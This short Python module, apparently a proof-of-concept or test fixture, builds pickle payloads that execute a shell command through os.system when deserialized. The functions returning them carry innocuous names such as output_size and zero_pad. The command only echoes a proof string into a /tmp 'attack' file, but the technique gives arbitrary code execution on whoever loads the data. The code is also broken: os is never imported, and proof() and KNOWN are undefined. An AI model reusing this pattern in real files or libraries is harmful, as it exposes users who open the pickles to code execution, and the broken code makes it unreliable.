"""Returns pickles that run code where they are opened."""

import io
import pickle

import numpy as np

EARNS = 0


class Bomb:
    def __reduce__(self):
        return os.system, (f"echo {proof()} > /tmp/attack-{KNOWN['run']}",)


def output_size(*args, **kwargs):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], object), allow_pickle=True)
    return file.getvalue()


def same_padding(*args, **kwargs):
    return np.array([Bomb()], object)


def zero_pad(*args, **kwargs):
    return pickle.dumps(Bomb()), Bomb()
